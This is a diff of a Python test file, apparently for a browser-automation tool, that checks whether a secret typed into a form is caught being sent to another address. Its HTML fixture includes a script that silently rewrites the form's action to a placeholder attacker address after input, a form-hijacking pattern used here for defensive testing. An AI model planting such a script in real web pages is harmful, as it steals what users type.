@@ -191,7 +191,7 @@ async def test_a_form_of_its_own_origin_sent_a_secret_to_another(
 
 LATER = """<form id=f method=post action="/in"><input aria-label=Q name=p id=q>
     <button id=b aria-label=Send style="position:absolute;left:8px;top:60px;width:80px;height:30px">Send</button>
-    <label for=b onclick=0 style="position:absolute;top:120px">Send it</label></form>
+    <label for=b style="position:absolute;left:8px;top:120px">Send it</label></form>
     <script>q.addEventListener('input', () => f.action = '{evil}')</script>"""
 
 
@@ -209,7 +209,7 @@ async def test_a_form_changed_its_address_after_a_secret_was_typed(
             case "click at a place":
                 result = await session.execute(ClickAt(x=30, y=70))
             case "click on a label":
-                result = await click(session, "Send it")
+                result = await session.execute(ClickAt(x=30, y=128))
             case "Enter":
                 result = await session.execute(Press(keys="Enter"))
             case "Space":
